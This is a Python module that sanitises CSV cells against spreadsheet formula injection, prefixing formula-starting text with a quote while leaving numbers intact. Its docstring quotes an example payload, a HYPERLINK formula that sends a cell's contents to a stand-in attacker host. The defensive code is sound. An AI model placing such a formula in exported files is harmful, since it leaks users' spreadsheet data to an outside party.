"""CSV that a spreadsheet opens as data, never as formulas (OWASP "CSV injection").

Excel, LibreOffice and Google Sheets treat a cell that begins with `=`, `+`, `-` or `@` (also after
a TAB, CR or LF) as a formula: a device named `=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào
đây")` becomes a link that sends the sheet's cells away. Every CSV the IOC writes goes through
`cell`, which prefixes such text with a single quote `'` (shown by spreadsheets as the text
itself). Numbers are data, not formulas: Python numbers, and text that is exactly a decimal
number (`-12.5`, `+3`, `-1e-3`), are left as they are, so negative readings stay numbers. The
dashboard's downloads use the same rule (`csvCell` in dashboard/js/dom.js).
"""

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def cell(value: Any) -> Any:
    """The value as a CSV cell: text that would start a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class Writer:
    """`csv.writer` whose every cell goes through `cell`."""

    def __init__(self, f: IO[str], **fmt: Any) -> None:
        self._w = csv.writer(f, **fmt)

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: IO[str], **fmt: Any) -> Writer:
    """A CSV writer for `f` (the `csv.writer` format options) that neutralises formulas."""
    return Writer(f, **fmt)
